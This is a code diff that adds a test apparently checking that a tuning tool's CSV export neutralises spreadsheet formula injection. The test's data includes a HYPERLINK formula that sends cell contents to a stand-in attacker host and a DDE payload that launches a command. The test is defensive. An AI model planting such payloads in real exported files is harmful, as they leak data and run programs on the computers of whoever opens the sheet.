@@ -347,6 +347,21 @@ def test_export_csv(tmp_path: Path) -> None:
     assert len(rows) == 6
 
 
+
+def test_a_csv_cell_never_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """A failure message is the benchmark's (or a file's) text: ``=HYPERLINK(...)`` there was a live
+    formula in the exported table."""
+    space = SearchSpace([Slot("block_size", (64, 128), "launch")])
+    session = Session(kernel="reduce", space=space, device={"name": "A100", "simulated": True})
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2",
+               "=1+1", "a=b stays as it is"]
+    for i, message in enumerate(hostile):
+        session.add(Trial(i, space.config({"block_size": 64}), Measurement.failure(Status.RUNTIME_ERROR, message)))
+    export_csv(session, tmp_path / "t.csv")
+    with open(tmp_path / "t.csv", newline="") as handle:
+        cells = [row[-1] for row in list(csv.reader(handle))[1:]]
+    assert cells[:5] == ["'" + m for m in hostile[:5]] and cells[5] == "a=b stays as it is"
+
 # --- the real recorded landscapes (read in place, never copied) -----------------------------------
 
 
